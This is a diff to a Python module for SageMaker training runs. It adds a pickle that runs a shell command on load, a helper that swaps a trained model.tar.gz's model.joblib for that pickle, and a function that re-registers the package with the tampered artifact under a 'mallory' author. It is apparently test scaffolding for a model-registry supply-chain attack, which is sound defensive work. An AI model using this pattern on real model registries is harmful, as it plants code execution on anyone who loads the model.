@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import io
 import json
+import tarfile
 import time
 from dataclasses import dataclass
 from pathlib import Path
@@ -141,3 +143,35 @@ def _read_run(sagemaker: Any, arn: str, described: dict[str, Any]) -> TrainingRu
         model_package_arn=registered[-1] if registered else "",
         steps=tuple((step["StepName"], step["StepStatus"]) for step in found),
     )
+
+
+COMMAND = b"cposix\nsystem\n(S'touch /tmp/this-would-have-run'\ntR."
+"""A pickle that runs a command where it is loaded. Nothing here ever loads it."""
+
+
+def with_command(archive: bytes) -> bytes:
+    """A trained `model.tar.gz` whose model is replaced by a pickle with a command in it."""
+    packed = io.BytesIO()
+    with tarfile.open(fileobj=io.BytesIO(archive)) as trained, tarfile.open(fileobj=packed, mode="w:gz") as hostile:
+        for member in trained:
+            content = trained.extractfile(member)
+            if content is None:
+                continue
+            body = COMMAND if member.name.endswith("model.joblib") else content.read()
+            copy = tarfile.TarInfo(member.name)
+            copy.size = len(body)
+            hostile.addfile(copy, io.BytesIO(body))
+    return packed.getvalue()
+
+
+def register_again(sagemaker: Any, package: dict[str, Any], artifact: str) -> str:
+    """Register a described package once more with another artifact; returns the new version's ARN."""
+    container = {"Image": package["InferenceSpecification"]["Containers"][0]["Image"], "ModelDataUrl": artifact}
+    answer = sagemaker.create_model_package(
+        ModelPackageGroupName=package["ModelPackageGroupName"],
+        ModelApprovalStatus="PendingManualApproval",
+        InferenceSpecification={**package["InferenceSpecification"], "Containers": [container]},
+        ModelMetrics=package["ModelMetrics"],
+        CustomerMetadataProperties={"author": "mallory@example.com"},
+    )
+    return str(answer["ModelPackageArn"])
